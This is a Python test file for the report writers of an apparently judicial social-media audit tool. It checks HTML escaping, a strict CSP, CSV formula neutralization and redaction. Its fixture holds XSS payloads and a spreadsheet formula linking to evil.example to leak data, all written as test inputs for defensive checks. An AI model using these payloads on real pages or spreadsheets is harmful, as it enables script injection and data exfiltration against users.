"""The audit folder writers: findings.json shape, CSV injection, redaction, a safe offline HTML."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from xarchive import build_x_archive, like, tweet

from presence_audit.errors import AuditInputError
from presence_audit.findings_schema import FINDING_COLUMNS, SCHEMA_VERSION
from presence_audit.outputs import prepare_out_dir
from presence_audit.reports import ReportOptions, all_writers, write_all
from presence_audit.reports.findings_csv import REVIEW_COLUMNS, neutralize
from presence_audit.reports.html import highlight, render
from presence_audit.scan import scan

ROOT = Path(__file__).resolve().parent.parent
PROFILE = ROOT / "sample_archives" / "profile.toml"
SAMPLE = ROOT / "sample_archives" / "x-sample.zip"
APRIL = "Tue Apr 16 14:02:11 +0000 2024"
SCRIPT = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'


def acme_reply(id_str: str, text: str) -> dict:
    """A reply to the party @acme_holdings (pending case 512345/2024), as X stores it:
    ``full_text`` keeps HTML entities escaped (formats.md 1.7)."""
    stored = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return tweet(id_str, APRIL, stored,
                 reply_to=("1780230000000000000", "1500000001", "acme_holdings"),
                 mentions=[("acme_holdings", "1500000001")])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A real scan of an archive whose party-related tweets carry XSS and formula payloads."""
    tmp = tmp_path_factory.mktemp("hostile")
    archive = build_x_archive(tmp / "x.zip", tweets=[
        acme_reply("1780231000000000001", f"@acme_holdings {SCRIPT} hearing on the lease"),
        acme_reply("1780231000000000002", f"@acme_holdings {ATTR} see you at the hearing"),
        acme_reply("1780231000000000003", f"{FORMULA} @acme_holdings hearing"),
        tweet("1780231000000000004", APRIL, "Rosemary focaccia, second attempt."),
    ], likes=[like("1780000000000000009", "Acme Holdings LLC statement on the lease")])
    return scan([archive], PROFILE)


def texts(result) -> list[str]:
    return [t for t in result.findings["text"].dropna()]


def test_the_payloads_reach_the_findings(hostile):
    """Guard: the escaping tests below are only meaningful if the raw payloads are findings."""
    joined = "\n".join(texts(hostile))
    assert SCRIPT in joined and ATTR in joined and FORMULA in joined


def test_html_escapes_hostile_text_and_marks_evidence(hostile):
    html = render(hostile)
    assert SCRIPT not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in html
    # The JSON blob escapes markup characters, so no text can close its element.
    blob = html[html.index('id="report-data">'):]
    blob = blob[:blob.index("</script>")]
    assert "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" in blob
    data = json.loads(blob[len('id="report-data">'):])
    cols = data["findings"]["c"]
    assert SCRIPT in "\n".join(t for t in cols["text"] if t)
    for text, spans, fp in zip(cols["text"], cols["hl"], cols["fp"], strict=True):
        row = hostile.findings[hostile.findings["fingerprint"] == fp].iloc[0]
        want = [e["text"] for e in row["evidence"] if e["field"] == "text"]
        assert [text[s:e] for s, e in spans] == want
    # Printed cards (a group's first member) mark their spans in escaped text.
    assert "<mark>" in html
    # The only <script> elements are ours: the inline JSON data and the inline script.
    assert html.count("<script") == 2
    assert '<script type="application/json" id="report-data">' in html and "<script>" in html


def test_html_is_self_contained_with_a_strict_csp(hostile):
    html = render(hostile)
    assert ('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
            "style-src 'unsafe-inline'; script-src 'unsafe-inline'; img-src data:") in html
    assert not re.search(r"""\ssrc\s*=\s*["']?(https?:)?//""", html, re.IGNORECASE)
    assert "<link" not in html.lower() and "@import" not in html and "url(" not in html
    for tag in re.findall(r"<[^>]*href\s*=\s*[\"']?https?://[^>]*>", html, re.IGNORECASE):
        assert tag.startswith("<a ") and "noreferrer" in tag  # links to the item, not loads


def test_html_structure_follows_the_report_notes(hostile):
    html = render(hostile)
    for needle in ("Maria Rossi", "Kings County Supreme Court", "US-model", "x.zip",
                   "What to do next", "Preserve before you delete", "Knowledge changes duties",
                   "No findings is not a compliance certificate", "Rules that could not run",
                   'id="coverage"', "Case 512345/2024"):
        assert needle in html, needle
    for fp in hostile.findings["fingerprint"]:
        assert fp in html
    # Grouped by case first: the pending case's heading precedes the findings without a case.
    if (hostile.findings["case_id"].fillna("") == "").any():
        assert html.index("Case 512345/2024") < html.index("Not tied to a listed case")


def test_html_caps_the_print_list_but_keeps_every_finding(hostile):
    total = len(hostile.findings)
    assert total >= 2
    html = render(hostile, ReportOptions(html_max_findings=1))
    assert html.count('<article class="finding ') >= 1
    printed = html[html.index('id="print-list"'):]
    assert printed.count('<article class="finding ') == 1
    badge = re.search(r'badge count">×(\d+)<', printed)
    size = int(badge.group(1)) if badge else 1
    if total > size:
        assert f"{total - size:,} more are in the interactive list" in printed
    else:
        assert "more are in the interactive list" not in printed
    for fp in hostile.findings["fingerprint"]:
        assert fp in html  # every finding stays in the interactive list's data


def test_labels_in_italian_and_office_templates(hostile, tmp_path):
    italian = render(hostile, ReportOptions(lang="it"))
    assert '<html lang="it">' in italian and "Cosa fare ora" in italian
    assert "What to do next" not in italian
    office = tmp_path / "office"
    (office / "partials").mkdir(parents=True)
    (office / "labels").mkdir()
    (office / "partials" / "letterhead.html.j2").write_text(
        '<div class="letterhead">Ufficio etico — {{ subject.name }}</div>')
    (office / "labels" / "it.toml").write_text('what_next = "Passi consigliati"\n')
    html = render(hostile, ReportOptions(lang="it", template_dir=office))
    assert '<div class="letterhead">Ufficio etico — Maria Rossi</div>' in html
    assert "Passi consigliati" in html and "Cosa fare ora" not in html
    with pytest.raises(AuditInputError, match="no report labels for language 'xx'"):
        render(hostile, ReportOptions(lang="xx"))
    with pytest.raises(AuditInputError, match="not a folder"):
        render(hostile, ReportOptions(template_dir=tmp_path / "missing"))


def test_safe_json_escapes_markup_and_line_separators():
    from presence_audit.reports.html import safe_json

    out = str(safe_json({"t": "</script><b>&\u2028\u2029"}))
    assert "<" not in out and ">" not in out and "&" not in out
    assert "\u2028" not in out and "\u2029" not in out
    assert json.loads(out) == {"t": "</script><b>&\u2028\u2029"}


def test_monthly_chart_counts_and_escapes():
    from presence_audit.reports.charts import monthly_chart, monthly_counts

    frame = pd.DataFrame({
        "timestamp": pd.to_datetime(["2024-01-05", "2024-01-20", "2024-03-02", None], utc=True),
        "category": ["party", "<evil>", "party", "party"]})
    table = monthly_counts(frame)
    assert list(map(str, table.index)) == ["2024-01", "2024-02", "2024-03"]
    assert table.loc[table.index[0], "party"] == 1 and table.values.sum() == 3
    svg = str(monthly_chart(frame, "Findings <per> month"))
    assert svg.startswith("<svg") and "<evil>" not in svg and "&lt;evil&gt;" in svg
    assert svg.count("<rect") >= 3 and "<script" not in svg


def test_highlight_cuts_spans_safely():
    text = "call @acme_holdings about the hearing"
    spans = [{"field": "text", "start": 5, "end": 19, "text": "@acme_holdings"},
             {"field": "text", "start": 10, "end": 15, "text": "_hold"},  # overlaps: merged
             {"field": "text", "start": 30, "end": 99, "text": "hearing"},  # bad offsets
             {"field": "counterpart", "start": 0, "end": 4, "text": "acme"}]
    pieces = highlight(text, spans)
    assert "".join(p for p, _ in pieces) == text
    assert [p for p, marked in pieces if marked] == ["@acme_holdings", "hearing"]
    assert highlight(None, spans) == [] and highlight("plain", []) == [("plain", False)]


def test_findings_json_top_level_and_types(hostile, tmp_path):
    write_all(tmp_path / "audit", hostile)
    doc = json.loads((tmp_path / "audit" / "findings.json").read_text())
    assert list(doc) == ["schema_version", "tool", "generated_at", "complete", "failures",
                         "subject", "period", "coverage", "summary", "findings"]
    assert doc["complete"] is True and doc["failures"] == []
    assert doc["schema_version"] == SCHEMA_VERSION
    assert doc["tool"] == {"name": "presence-audit", "version": doc["tool"]["version"]}
    iso = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?Z$")
    assert iso.match(doc["generated_at"])
    assert iso.match(doc["period"]["from"]) and iso.match(doc["period"]["to"])
    assert doc["subject"]["name"] == "Maria Rossi" and doc["subject"]["role"] == "judge"
    assert all({"platform", "member", "kind", "records", "status", "reason"} <= set(c)
               for c in doc["coverage"])
    summary = doc["summary"]
    assert summary["total"] == len(doc["findings"]) == len(hostile.findings)
    assert sum(summary["by_severity"].values()) == summary["total"]
    assert summary["open"] == sum(summary["open_by_severity"].values())
    assert summary["by_status"].get("open", 0) == summary["open"]
    for finding in doc["findings"]:
        assert list(finding) == list(FINDING_COLUMNS)
        assert isinstance(finding["evidence"], list) and isinstance(finding["references"], list)
        assert finding["timestamp"] is None or iso.match(finding["timestamp"])
        for span in finding["evidence"]:
            assert {"field", "start", "end", "text"} <= set(span)


def test_csv_neutralizes_formulas(hostile, tmp_path):
    write_all(tmp_path / "audit", hostile)
    raw = (tmp_path / "audit" / "findings.csv").read_text("utf-8")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert list(rows[0]) == [*FINDING_COLUMNS, *REVIEW_COLUMNS]
    assert all(r["exported_status"] == r["status"] and r["exported_at"] for r in rows)
    cells = [v for row in rows for v in row.values()]
    assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for c in cells if c)
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert all(json.loads(r["evidence"]) for r in rows if r["evidence"])


def test_neutralize_every_formula_prefix():
    cells = pd.Series(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "safe", None, "a=b"])
    out = neutralize(cells).tolist()
    assert out[:6] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert out[6] == "safe" and pd.isna(out[7]) and out[8] == "a=b"


def test_redact_masks_text_but_keeps_ids(hostile, tmp_path):
    write_all(tmp_path / "plain", hostile)
    write_all(tmp_path / "red", hostile, ReportOptions(redact=True))
    plain = json.loads((tmp_path / "plain" / "findings.json").read_text())
    red = json.loads((tmp_path / "red" / "findings.json").read_text())
    assert [f["fingerprint"] for f in red["findings"]] == \
        [f["fingerprint"] for f in plain["findings"]]
    assert [f["record_id"] for f in red["findings"]] == \
        [f["record_id"] for f in plain["findings"]]
    body = (tmp_path / "red" / "findings.json").read_text() + \
        (tmp_path / "red" / "findings.csv").read_text()
    for payload in ("alert(1)", "HYPERLINK", "see you at the hearing"):
        assert payload not in body
    assert all(f["text"] in (None, "[redacted]") for f in red["findings"])
    assert all(s["text"] == "[redacted]" for f in red["findings"] for s in f["evidence"])
    assert red["summary"]["redacted"] is True


def test_writer_registry_and_previous_audit_reuse(hostile, tmp_path):
    assert list(all_writers())[:1] == ["json"]  # findings.json first marks the folder
    assert {"json", "csv", "html"} <= set(all_writers())
    out = tmp_path / "audit"
    first = write_all(out, hostile)
    before = first["json"].read_bytes()
    write_all(out, hostile)  # a previous audit is replaced in place
    assert first["json"].read_bytes() != b"" and len(before) > 0
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temp files left
    (out / "findings.json").write_text('{"tool": {"name": "something-else"}}')
    with pytest.raises(AuditInputError, match="not empty"):
        prepare_out_dir(out)
    target = tmp_path / "a-file"
    target.write_text("x")
    with pytest.raises(AuditInputError, match="must be a folder"):
        prepare_out_dir(target)


def test_sample_report_renders(tmp_path):
    written = write_all(tmp_path / "audit", scan([SAMPLE], PROFILE))
    html = written["html"].read_text("utf-8")
    assert "data/ad-engagements.js" in html  # the coverage table lists what was not read
    assert "tweets_media" in html


def test_profile_report_lang_is_strict_and_chooses_the_language(tmp_path):
    from presence_audit.errors import ProfileError
    from presence_audit.profile import load_profile
    from presence_audit.reports.html import choose_language

    source = (ROOT / "sample_archives" / "profile.toml").read_text("utf-8")
    for name in ("cases.csv", "people.csv", "political.csv"):
        (tmp_path / name).write_text((ROOT / "sample_archives" / name).read_text("utf-8"))

    def load(extra: str):
        (tmp_path / "profile.toml").write_text(source + "\n" + extra)
        return load_profile(tmp_path / "profile.toml")

    profile = load('[report]\nlang = "it"\n')
    assert profile.report_lang == "it"
    assert choose_language(ReportOptions(), profile) == "it"
    assert choose_language(ReportOptions(lang="en"), profile) == "en"
    assert load("").report_lang is None
    with pytest.raises(ProfileError, match="language"):
        load('[report]\nlanguage = "it"\n')
    with pytest.raises(ProfileError, match="two-letter language code"):
        load('[report]\nlang = "italian"\n')
